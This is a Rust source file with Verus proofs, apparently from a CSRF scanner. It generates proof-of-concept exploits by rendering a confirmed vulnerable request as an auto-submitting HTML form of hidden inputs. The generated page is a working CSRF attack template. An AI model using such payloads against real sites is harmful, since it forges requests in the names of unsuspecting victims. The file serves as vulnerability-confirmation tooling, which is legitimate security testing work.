//! The exploit generator: renders a confirmed finding as a minimal
//! self-submitting HTML form that reproduces the request's method, target
//! URL and body fields.
//!
//! The body is read as form-encoded text: `&`-separated pieces, each split
//! at its first `=` into a name and a value; a piece without `=` becomes a
//! field with an empty value, which reproduces a non-form body as one opaque
//! field. Empty pieces are dropped. Rendering is a pure function of the
//! finding.

use vstd::prelude::*;
use vstd::string::StringExecFns;

use crate::csrf::{VulnerableRequest, VulnerableRequestView};
use crate::shared_kernel::headers_view;
use crate::text::{chars_of, string_of_range};

verus! {

/// A rendered payload that reproduces a vulnerable request when loaded by a
/// victim's browser.
#[derive(Debug, PartialEq)]
pub struct CsrfExploit(String);

impl View for CsrfExploit {
    type V = Seq<char>;

    closed spec fn view(&self) -> Seq<char> {
        self.0@
    }
}

impl CsrfExploit {
    /// The rendered payload text.
    pub fn payload(&self) -> (r: &String)
        ensures
            r@ == self@,
    {
        &self.0
    }
}

/// The end of the body piece that starts at `j`: the first `&` at or after
/// it, or the end.
pub open spec fn field_end(s: Seq<char>, j: int) -> int
    recommends
        0 <= j <= s.len(),
    decreases s.len() - j,
{
    if j < s.len() && s[j] != '&' {
        field_end(s, j + 1)
    } else {
        j
    }
}

/// The position of the first `=` in `[j, e)`, or `e` when there is none.
pub open spec fn eq_pos_in(s: Seq<char>, j: int, e: int) -> int
    recommends
        0 <= j <= e <= s.len(),
    decreases e - j,
{
    if j < e && s[j] != '=' {
        eq_pos_in(s, j + 1, e)
    } else {
        j
    }
}

/// The piece `s[j..e]` as a name/value pair, split at its first `=`; a piece
/// without `=` is all name.
pub open spec fn split_field(s: Seq<char>, j: int, e: int) -> (Seq<char>, Seq<char>) {
    let q = eq_pos_in(s, j, e);
    if q < e {
        (s.subrange(j, q), s.subrange(q + 1, e))
    } else {
        (s.subrange(j, e), Seq::<char>::empty())
    }
}

/// A piece never ends before it starts nor after the text.
proof fn lemma_field_end_bounds(s: Seq<char>, j: int)
    requires
        j <= s.len(),
    ensures
        j <= field_end(s, j) <= s.len(),
    decreases s.len() - j,
{
    if j < s.len() && s[j] != '&' {
        lemma_field_end_bounds(s, j + 1);
    }
}

/// The name/value pairs of a body, read from position `j` on; empty pieces
/// are dropped.
pub open spec fn spec_body_fields(s: Seq<char>, j: int) -> Seq<(Seq<char>, Seq<char>)>
    recommends
        0 <= j,
    decreases s.len() - j,
        via spec_body_fields_decreases
{
    if j >= s.len() {
        seq![]
    } else {
        let e = field_end(s, j);
        let rest = if e < s.len() {
            spec_body_fields(s, e + 1)
        } else {
            seq![]
        };
        if e > j {
            seq![split_field(s, j, e)] + rest
        } else {
            rest
        }
    }
}

#[via_fn]
proof fn spec_body_fields_decreases(s: Seq<char>, j: int) {
    if j <= s.len() {
        lemma_field_end_bounds(s, j);
    }
}

/// One hidden form input.
pub open spec fn render_input(name: Seq<char>, value: Seq<char>) -> Seq<char> {
    "<input type=\"hidden\" name=\""@ + name + "\" value=\""@ + value + "\"/>"@
}

/// The hidden inputs for the fields from index `i` on, in order.
pub open spec fn render_inputs_from(fields: Seq<(Seq<char>, Seq<char>)>, i: int) -> Seq<char>
    decreases fields.len() - i,
{
    if 0 <= i < fields.len() {
        render_input(fields[i].0, fields[i].1) + render_inputs_from(fields, i + 1)
    } else {
        Seq::empty()
    }
}

/// The whole payload: an auto-submitting form with the finding's method and
/// URL, holding one hidden input per body field.
pub open spec fn spec_render_exploit(v: VulnerableRequestView) -> Seq<char> {
    "<html><body onload=\"document.forms[0].submit()\"><form method=\""@ + v.method
        + "\" action=\""@ + v.url + "\">"@ + render_inputs_from(spec_body_fields(v.body, 0), 0)
        + "</form></body></html>"@
}

/// The end of the body piece that starts at `j`, executable form.
fn field_end_from(s: &Vec<char>, j: usize) -> (r: usize)
    requires
        j <= s@.len(),
    ensures
        r == field_end(s@, j as int),
        j <= r <= s@.len(),
    decreases s@.len() - j,
{
    if j < s.len() && s[j] != '&' {
        field_end_from(s, j + 1)
    } else {
        j
    }
}

/// The position of the first `=` in `[j, e)`, executable form.
fn eq_pos_in_from(s: &Vec<char>, j: usize, e: usize) -> (r: usize)
    requires
        j <= e <= s@.len(),
    ensures
        r == eq_pos_in(s@, j as int, e as int),
        j <= r <= e,
    decreases e - j,
{
    if j < e && s[j] != '=' {
        eq_pos_in_from(s, j + 1, e)
    } else {
        j
    }
}

/// The name/value pairs of a body, executable form of `spec_body_fields`.
fn body_fields(s: &Vec<char>) -> (fields: Vec<(String, String)>)
    ensures
        headers_view(fields@) == spec_body_fields(s@, 0),
{
    let n = s.len();
    let mut fields: Vec<(String, String)> = Vec::new();
    let mut j: usize = 0;
    while j < n
        invariant
            j <= n,
            n == s@.len(),
            headers_view(fields@) + spec_body_fields(s@, j as int) == spec_body_fields(s@, 0),
        decreases n - j,
    {
        let ghost before = headers_view(fields@);
        let e = field_end_from(s, j);
        if e > j {
            let q = eq_pos_in_from(s, j, e);
            let pair = if q < e {
                (string_of_range(s, j, q), string_of_range(s, q + 1, e))
            } else {
                (string_of_range(s, j, e), String::new())
            };
            proof {
                assert((pair.0@, pair.1@) == split_field(s@, j as int, e as int));
            }
            fields.push(pair);
            proof {
                assert(headers_view(fields@) =~= before + seq![split_field(
                    s@,
                    j as int,
                    e as int,
                )]);
                assert(headers_view(fields@) + spec_body_fields(s@, e + 1) =~= spec_body_fields(
                    s@,
                    0,
                ));
            }
        }
        if e < n {
            j = e + 1;
        } else {
            j = n;
        }
    }
    proof {
        assert(headers_view(fields@) =~= spec_body_fields(s@, 0));
    }
    fields
}

/// The rendered exploit for a finding: deterministic in the finding alone.
pub fn generate(v: &VulnerableRequest) -> (r: CsrfExploit)
    ensures
        r@ == spec_render_exploit(v@),
{
    let body_chars = chars_of(v.body.as_str());
    let fields = body_fields(&body_chars);
    let ghost gf = headers_view(fields@);
    let mut out = String::new();
    out.append("<html><body onload=\"document.forms[0].submit()\"><form method=\"");
    out.append(v.method.as_str());
    out.append("\" action=\"");
    out.append(v.url.as_str());
    out.append("\">");
    let ghost base = out@;
    let n = fields.len();
    let mut i: usize = 0;
    while i < n
        invariant
            i <= n,
            n == fields@.len(),
            gf == headers_view(fields@),
            out@ + render_inputs_from(gf, i as int) =~= base + render_inputs_from(gf, 0),
        decreases n - i,
    {
        proof {
            assert(gf[i as int] == (fields@[i as int].0@, fields@[i as int].1@));
        }
        out.append("<input type=\"hidden\" name=\"");
        out.append(fields[i].0.as_str());
        out.append("\" value=\"");
        out.append(fields[i].1.as_str());
        out.append("\"/>");
        proof {
            assert(out@ + render_inputs_from(gf, i + 1) =~= base + render_inputs_from(gf, 0));
        }
        i += 1;
    }
    out.append("</form></body></html>");
    proof {
        assert(render_inputs_from(gf, n as int) =~= Seq::empty());
        assert(out@ =~= spec_render_exploit(v@));
    }
    CsrfExploit(out)
}

} // verus!
